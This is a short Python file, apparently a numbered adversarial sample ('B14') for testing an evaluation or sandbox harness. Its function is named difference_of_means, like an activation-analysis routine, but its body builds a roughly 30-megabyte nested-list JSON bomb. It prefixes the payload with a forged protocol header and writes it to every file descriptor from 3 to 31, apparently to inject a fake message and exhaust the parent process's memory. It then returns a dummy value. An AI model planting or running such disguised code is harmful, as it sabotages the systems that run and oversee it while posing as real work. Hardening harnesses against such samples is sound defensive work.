"""B14: JSON that is small on the wire and huge in memory."""

import os
import struct


def forge(*pieces):
    for descriptor in range(3, 32):
        for piece in pieces:
            try:
                os.write(descriptor, piece)
            except OSError:
                break


def head(kind, number, size):
    return struct.pack(">cIQ", kind, number, size)


def difference_of_means(acts, labels):
    value = b'{"!": "dict", "items": [["value", [' + b"[]," * 10_000_000 + b"[]]]]}"
    message = len(value).to_bytes(8, "big") + value
    forge(head(b"R", 4, len(message)), *[message[i : i + 65536] for i in range(0, len(message), 65536)])
    return acts[0]
